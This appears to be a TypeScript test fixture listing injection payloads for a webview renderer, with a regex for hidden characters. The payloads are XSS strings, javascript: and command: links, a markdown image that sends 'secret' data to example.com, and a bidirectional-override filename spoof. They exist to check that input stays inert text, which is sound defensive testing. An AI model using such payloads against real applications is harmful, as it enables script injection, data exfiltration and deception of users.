/** Texts that try to become markup, code, links or something other than they look; each must stay the text it is. */
export const PAYLOADS: readonly string[] = [
  '<script>window.hacked = 1</script>',
  '</script><script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked = 1">',
  '<svg onload="window.hacked = 1"></svg>',
  '<svg><animate onbegin="window.hacked = 1" attributeName=x dur=1s>',
  '<iframe src="javascript:parent.hacked = 1"></iframe>',
  '<a href="javascript:window.hacked = 1">Copy</a>',
  '<a href="command:workbench.action.openSettings">settings</a>',
  '[settings](command:workbench.action.openSettings)',
  '![](https://example.com/collect?data=secret)',
  '<link rel=stylesheet href="https://example.com/x.css">',
  '<style>body { display: none }</style>',
  '<base href="https://example.com/">',
  '<meta http-equiv="refresh" content="0;url=https://example.com">',
  '<form action="https://example.com"><input name=key autofocus onfocus="window.hacked = 1"></form>',
  '"><b onmouseover="window.hacked = 1">x</b>',
  "' autofocus onfocus='window.hacked = 1",
  '<vscode-button onclick="window.hacked = 1">OK</vscode-button>',
  '<template shadowrootmode="open"><script>window.hacked = 1</script></template>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked = 1">',
  '&lt;script&gt;window.hacked = 1&lt;/script&gt;',
  '${window.hacked = 1} {{window.hacked = 1}} `window.hacked = 1`',
  'invoice\u202egpj.exe',
  '\u2066admin\u2069 \u200b\ufeff\u0000\u001b]8;;https://example.com\u0007',
  '__proto__',
  '\ud800 lone surrogate',
];

/** What a hidden or reordering character looks like when it was let through. */
export const HIDDEN_CHARACTER =
  // eslint-disable-next-line no-control-regex -- they are the subject
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/u;
